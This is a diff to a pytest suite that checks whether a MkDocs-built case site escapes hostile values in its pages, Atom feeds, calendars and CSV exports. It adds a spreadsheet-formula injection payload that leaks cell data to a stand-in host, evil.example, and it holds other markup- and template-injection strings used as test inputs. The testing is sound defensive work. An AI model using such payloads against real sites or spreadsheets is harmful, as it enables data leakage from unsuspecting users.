@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import hashlib
 import re
+from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -23,17 +24,20 @@ from hostile import (
     JS,
     MARK_END,
     MARK_START,
+    SAFE_SCHEMES,
     HostileLetter,
     archive_with_a_letter,
     assert_none,
+    body_violations,
     front,
     page_violations,
     run_docket,
+    scheme,
     visit,
     watched_context,
     write_yaml,
 )
-from hostile_sites import HostileSite, base_registries, build_hostile_site
+from hostile_sites import BuildFailed, HostileSite, base_registries, build_hostile_site
 
 # name -> a value as an attacker writes it into a letter or a registry
 PAYLOADS = {
@@ -51,6 +55,7 @@ PAYLOADS = {
     "unclosed-comment": "Status <!-- swallows the rest of the page",
     "markdown-structure": "Status\n\n# Injected heading\n\n| a | b |\n|---|---|\n\n---\ntitle: injected",
     "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
+    "spreadsheet-formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Open") @SUM(1+1)*cmd',
 }
 SLUGS = {name: re.sub(r"[^a-z0-9]+", "-", name) for name in PAYLOADS}
 HOSTILE_DAY, FOLLOW_UP_DAY = "2020-03-02", "2020-03-16"
@@ -64,7 +69,7 @@ def case_key(name: str) -> str:
     return f"hostile-{SLUGS[name]}"
 
 
-def registries(root: Path) -> None:
+def registries(root: Path, payloads: dict[str, str]) -> None:
     """Synthetic registries plus, per payload, a person and a case made of it."""
     base_registries(root, ["alpha"])
     people = (root / "people.yml").read_text("utf-8")
@@ -76,11 +81,11 @@ def registries(root: Path) -> None:
             "aliases": [f"M. {payload}"],
             "sort_as": f"Mallory, {payload}",
         }
-        for name, payload in PAYLOADS.items()
+        for name, payload in payloads.items()
     }
 
     (root / "people.yml").write_text(people + yaml.safe_dump(hostile_people, allow_unicode=True), "utf-8")
-    for name, payload in PAYLOADS.items():
+    for name, payload in payloads.items():
         (root / case_key(name)).mkdir()
         write_yaml(
             root / case_key(name) / "case.yml",
@@ -149,14 +154,44 @@ CONTROL = HostileLetter(
 )
 
 
-@pytest.fixture(scope="module")
-def values_site(tmp_path_factory) -> HostileSite:
-    letters = [hostile_letter(name, payload) for name, payload in PAYLOADS.items()]
-    letters += [follow_up(name) for name in PAYLOADS]
+@dataclass
+class ValuesSite:
+    built: HostileSite
+    failure: str  # why MkDocs could not build the site with every payload ("" if it could)
+    payloads: set[str]  # the payloads the built site carries
+
+    def html(self, path: str) -> str:
+        return self.built.html(path)
+
+
+def build_values(tmp: Path, payloads: dict[str, str]) -> HostileSite:
+    letters = [hostile_letter(name, payload) for name, payload in payloads.items()]
+    letters += [follow_up(name) for name in payloads]
+    built = build_hostile_site(tmp, letters, CONTROL, lambda root: registries(root, payloads))
     # follow-ups share a file name across cases; key them by case
-    built = build_hostile_site(tmp_path_factory.mktemp("values"), letters, CONTROL, registries)
     built.letters = {f"{letter.case}/{letter.name}": letter for letter in letters}
     return built
+
+
+@pytest.fixture(scope="module")
+def values_site(tmp_path_factory) -> ValuesSite:
+    try:
+        return ValuesSite(build_values(tmp_path_factory.mktemp("values"), PAYLOADS), "", set(PAYLOADS))
+    except BuildFailed as failure:
+        # Record it, and build without the values that have line breaks, so
+        # the other payloads are still checked.
+        rest = {name: payload for name, payload in PAYLOADS.items() if "\n" not in payload}
+        built = build_values(tmp_path_factory.mktemp("values-without-line-breaks"), rest)
+        return ValuesSite(built, str(failure), set(rest))
+
+
+def built_with(site: ValuesSite, name: str) -> None:
+    if name not in site.payloads:
+        pytest.fail(f"the site does not build with this value:\n{site.failure}", pytrace=False)
+
+
+def test_the_site_builds_with_every_hostile_value(values_site: ValuesSite) -> None:
+    assert values_site.failure == "", "a value made MkDocs fail (shown at the end)"
 
 
 def pages_of(name: str) -> list[str]:
@@ -209,30 +244,32 @@ def collapse(text: str) -> str:
     return " ".join(text.split())
 
 
-def test_values_are_published_not_refused(values_site: HostileSite) -> None:
+def test_values_are_published_not_refused(values_site: ValuesSite) -> None:
     # A title or a name that contains markup is text to show, not a reason to
     # lose the letter: the defence is escaping (a tag would be refused by its schema).
-    assert_none(values_site.refusals.by_file, "letters refused for values that only need escaping")
+    assert_none(values_site.built.refusals.by_file, "letters refused for values that only need escaping")
 
 
 @pytest.mark.parametrize("name", PAYLOADS)
-def test_no_active_content_in_the_built_pages(values_site: HostileSite, name: str) -> None:
+def test_no_active_content_in_the_built_pages(values_site: ValuesSite, name: str) -> None:
+    built_with(values_site, name)
     found = {
-        path: page_violations(values_site.html(path), values_site.own_scripts)
+        path: page_violations(values_site.html(path), values_site.built.own_scripts)
         for path in pages_of(name)
-        if (values_site.site / path / "index.html").exists()
+        if (values_site.built.site / path / "index.html").exists()
     }
     assert len(found) == len(pages_of(name)), "a page of the hostile letter, case or person is missing"
     assert_none(found, "active content a value put on the page")
 
 
-def test_no_active_content_in_the_index_pages(values_site: HostileSite) -> None:
-    found = {path: page_violations(values_site.html(path), values_site.own_scripts) for path in INDEX_PAGES}
+def test_no_active_content_in_the_index_pages(values_site: ValuesSite) -> None:
+    found = {path: page_violations(values_site.html(path), values_site.built.own_scripts) for path in INDEX_PAGES}
     assert_none(found, "active content a value put on the page")
 
 
 @pytest.mark.parametrize("name", PAYLOADS)
-def test_values_are_shown_as_text(values_site: HostileSite, name: str) -> None:
+def test_values_are_shown_as_text(values_site: ValuesSite, name: str) -> None:
+    built_with(values_site, name)
     payload = PAYLOADS[name]
     letter_html = values_site.html(pages_of(name)[0])
     heading, description = text_of(letter_html, "h1")
@@ -248,10 +285,10 @@ def test_values_are_shown_as_text(values_site: HostileSite, name: str) -> None:
 
 
 @pytest.fixture(scope="module")
-def site_url(values_site: HostileSite):
+def site_url(values_site: ValuesSite):
     from conftest import serve
 
-    base, stop = serve(values_site.site)
+    base, stop = serve(values_site.built.site)
     yield base
     stop()
 
@@ -266,7 +303,10 @@ def watched(browser, site_url: str):
 
 @pytest.mark.browser
 @pytest.mark.parametrize("name", PAYLOADS)
-def test_pages_of_hostile_values_run_nothing_in_chromium(watched, site_url: str, name: str) -> None:
+def test_pages_of_hostile_values_run_nothing_in_chromium(
+    values_site: ValuesSite, watched, site_url: str, name: str
+) -> None:
+    built_with(values_site, name)
     tab, watch = watched
     found = {}
     for index, path in enumerate(pages_of(name)):
@@ -348,3 +388,46 @@ def test_names_that_become_paths_and_links_are_refused_or_harmless(tmp_path: Pat
 
     found = {p.relative_to(out).as_posix(): shape(as_html(p.read_text("utf-8"))[1])[1] for p in out.rglob("*.md")}
     assert_none(found, f"{case}: active content on the pages")
+
+
+def test_feeds_calendars_and_exports_keep_values_as_data(values_site: ValuesSite) -> None:
+    """The same values in the other formats the site publishes: Atom feeds stay
+    well-formed and carry no markup a reader would render, calendars parse,
+    JSON parses, and no spreadsheet cell starts a formula (= + - @, tab, CR)."""
+    import csv
+    import json
+    import xml.etree.ElementTree as ET
+
+    site = values_site.built.site
+    found: dict[str, list[str]] = {}
+    for path in sorted(site.rglob("*")):
+        if not path.is_file() or "pagefind" in path.parts or path.suffix not in (".xml", ".ics", ".csv", ".json"):
+            continue
+        where = path.relative_to(site).as_posix()
+        problems = found.setdefault(where, [])
+        text = path.read_text("utf-8-sig")
+        if path.suffix == ".xml" and where != "sitemap.xml":
+            for element in ET.fromstring(text).iter():  # noqa: S314 - our own build; raises if not well-formed
+                if element.get("type") in ("html", "xhtml") and element.text:
+                    problems += [
+                        f"{element.tag}: {v}"
+                        for v in body_violations(f'<div class="docket-letter">{element.text}</div>')
+                    ]
+        elif path.suffix == ".ics":
+            from icalendar import Calendar
+
+            for component in Calendar.from_ical(text).walk():
+                for name, value in component.property_items(recursive=False):
+                    if name in ("URL", "ATTACH") and scheme(str(value)) not in SAFE_SCHEMES | {""}:
+                        problems.append(f"{name}:{value}")
+        elif path.suffix == ".json":
+            json.loads(text)
+        elif path.suffix == ".csv":
+            for row in csv.reader(text.splitlines()):
+                problems += [
+                    f"cell starts a formula: {cell[:60]!r}"
+                    for cell in row
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+                ]
+    assert_none(found, "values that stopped being data")
+    assert any(where.endswith(".csv") for where in found), "no export was published"
